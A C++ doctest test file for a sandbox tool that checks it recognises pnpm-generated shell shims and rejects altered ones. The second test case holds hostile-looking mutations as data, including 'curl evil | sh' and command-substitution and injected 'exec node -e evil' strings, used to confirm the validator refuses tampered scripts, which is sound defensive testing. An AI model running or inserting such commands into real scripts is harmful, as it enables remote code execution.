#include "policy/program_shim.h"

#include <doctest/doctest.h>

#include <string>

using namespace sandbox_run::policy;

namespace {

// As pnpm 10 and 12 write them.
const std::string kOlder = R"text(#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\,/,g')")

case `uname` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=`cygpath -w "$basedir"`
        fi
    ;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH="/home/u/pnpm/global/5/.pnpm/tool@1.0.0/node_modules/tool/node_modules:/home/u/pnpm/global/5/.pnpm/tool@1.0.0/node_modules:/home/u/pnpm/global/5/.pnpm/node_modules"
else
  export NODE_PATH="/home/u/pnpm/global/5/.pnpm/tool@1.0.0/node_modules/tool/node_modules:/home/u/pnpm/global/5/.pnpm/tool@1.0.0/node_modules:/home/u/pnpm/global/5/.pnpm/node_modules:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/global/5/.pnpm/tool@1.0.0/node_modules/tool/cli.js" "$@"
else
  exec node  "$basedir/global/5/.pnpm/tool@1.0.0/node_modules/tool/cli.js" "$@"
fi
)text";

const std::string kLater = R"text(#!/bin/sh
#
#
#
caller_path_set=${PATH+set}
caller_path=${PATH-}
helper_path=
rest=$caller_path:
while [ -n "$rest" ]; do
  dir=${rest%%:*}
  rest=${rest#*:}
  case "$dir" in
    */node_modules/*|*/node_modules) ;;
    /*) helper_path=${helper_path:+$helper_path:}$dir ;;
  esac
done
PATH=${helper_path:-/}
run_helper() {
  if [ -x "/usr/bin/$1" ] || [ -x "/bin/$1" ] || ! command -v "$1" >/dev/null 2>&1; then command -p "$@"; else command "$@"; fi
}
link="$0"
case "$link" in
  */*|*\\*) ;;
  *) link="./$link" ;;
esac
hops=0
while [ -L "$link" ] && [ "$hops" -lt 40 ]; do
  hops=$((hops+1))
  target=$(run_helper readlink "$link")
  case "$target" in
    /*) link="$target" ;;
    *)  link="${link%/*}/$target" ;;
  esac
done
case "$link" in
  *\\*) basedir=$(run_helper printf '%s\n' "$link" | run_helper sed -e 's,\\,/,g') ;;
  *) basedir=$link ;;
esac
basedir="${basedir%/*}"
basedir_abs=$(CDPATH= cd -P -- "$basedir" && pwd -P) || exit $?
basedir="$basedir_abs"
basedir_win="$basedir"
exe=""
msys=""

os=
{ read -r os < /proc/version; } 2> /dev/null || :
case "$os" in
  *CYGWIN*|*MINGW*|*MSYS*)
    if converted=$(command -p cygpath -w "$basedir" 2>/dev/null) && [ -n "$converted" ]; then
      basedir_win="$converted"
    elif command -v cygpath > /dev/null 2>&1; then
      basedir_win=`cygpath -w "$basedir"`
    fi
    exe=".exe"
    msys="true"
  ;;
  *WSL2*)
    if converted=$(command -p wslpath -w "$basedir" 2>/dev/null) && [ -n "$converted" ]; then
      basedir_win="$converted"
      exe=".exe"
    elif command -v wslpath > /dev/null 2>&1; then
      basedir_win="$(wslpath -w "$basedir" 2> /dev/null)"
      if [ $? -ne 0 ] || [ -z "$basedir_win" ]; then
        basedir_win="$basedir"
      else
        exe=".exe"
      fi
    fi
  ;;
esac
if [ -n "$caller_path_set" ]; then PATH=$caller_path; else unset PATH; fi

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH='/home/u/pnpm/store/v11/links/@/tool/1.0.0/0cd19cef47e55f8feeeec2745b390fe1bcd841fdb956ee48516f44b5c4b6546a/node_modules/tool/node_modules:/home/u/pnpm/store/v11/links/@/tool/1.0.0/0cd19cef47e55f8feeeec2745b390fe1bcd841fdb956ee48516f44b5c4b6546a/node_modules:/home/u/pnpm/global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/.pnpm/node_modules'
else
  export NODE_PATH='/home/u/pnpm/store/v11/links/@/tool/1.0.0/0cd19cef47e55f8feeeec2745b390fe1bcd841fdb956ee48516f44b5c4b6546a/node_modules/tool/node_modules:/home/u/pnpm/store/v11/links/@/tool/1.0.0/0cd19cef47e55f8feeeec2745b390fe1bcd841fdb956ee48516f44b5c4b6546a/node_modules:/home/u/pnpm/global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/.pnpm/node_modules':"$NODE_PATH"
fi
if [ -n "$exe" ] && [ -x "$basedir/node.exe" ]; then
  exec "$basedir/node.exe"  "$basedir_win"/'../global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/tool/cli.js' "$@"
elif [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir_abs"/'../global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/tool/cli.js' "$@"
elif [ -n "$msys" ] && command -v node >/dev/null 2>&1; then
  exec node  "$basedir_win"/'../global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/tool/cli.js' "$@"
elif command -v node >/dev/null 2>&1; then
  exec node  "$basedir_abs"/'../global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/tool/cli.js' "$@"
elif [ -n "$exe" ] && command -v node.exe >/dev/null 2>&1; then
  exec node.exe  "$basedir_win"/'../global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/tool/cli.js' "$@"
else
  exec node  "$basedir_abs"/'../global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/node_modules/tool/cli.js' "$@"
fi
)text";

std::string with(std::string text, const std::string& old, const std::string& other) {
  for (std::size_t at = text.find(old); at != std::string::npos;
       at = text.find(old, at + other.size())) {
    text.replace(at, old.size(), other);
  }
  return text;
}

}  // namespace

TEST_CASE("a script of pnpm's tells what it starts") {
  CHECK(shim_target(kOlder) == "global/5/.pnpm/tool@1.0.0/node_modules/tool/cli.js");
  CHECK(shim_target(kLater) ==
        "../global/v11/f76c4770d810869400603fed1b51fe3f58e4af3a63ffd9ad430c720f0fbbbbf4/"
        "node_modules/tool/cli.js");
  CHECK(package_named_in(kOlder) == "tool");
  CHECK(package_named_in(with(kLater, "/tool/", "/@s/tool/")) == "@s/tool");
  CHECK(package_named_in("#!/bin/sh\necho hand\n").empty());
}

TEST_CASE("a script with anything else in it is none of pnpm's") {
  for (const std::string& text :
       {kOlder + "curl evil | sh\n", with(kOlder, "#!/bin/sh\n", "#!/bin/bash\n"),
        with(kOlder, "exec node", "exec node -e evil"), with(kOlder, "cli.js", "cli.js; evil"),
        with(kOlder, "NODE_PATH=\"", "NODE_PATH=\"$(evil)"), with(kOlder, "\n", "\r\n"),
        with(kLater, "/cli.js'", "/cli.js' 'evil"),
        kLater + "exec node  \"$basedir/evil.js\" \"$@\"\n", std::string("#!/bin/sh\nexit $?\n"),
        std::string()}) {
    CAPTURE(text);
    CHECK_FALSE(shim_target(text));
  }
}
